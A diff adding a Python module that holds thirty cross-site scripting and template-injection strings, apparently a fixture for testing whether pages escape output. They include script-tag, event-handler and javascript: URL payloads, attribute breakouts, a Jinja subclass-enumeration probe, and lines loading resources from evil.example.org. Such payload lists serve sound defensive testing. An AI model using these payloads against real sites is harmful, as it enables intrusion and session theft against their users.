@@ -1,0 +1,36 @@
+"""Thirty strings that become script wherever a page forgets to escape, or escapes for the wrong place."""
+
+from __future__ import annotations
+
+INJECTIONS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt >alert(1)</sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert&#40;1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href='https://evil.example.org/'>",
+    "<link rel=stylesheet href='https://evil.example.org/x.css'>",
+    "<style>@import 'https://evil.example.org/x.css';</style>",
+    "\" onfocus=alert(1) autofocus x=\"",
+    "' onfocus=alert(1) autofocus x='",
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
+    "${alert(1)}`;alert(1)//",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;img src=x onerror=alert(1)&#x3E;",
+)  # fmt: skip
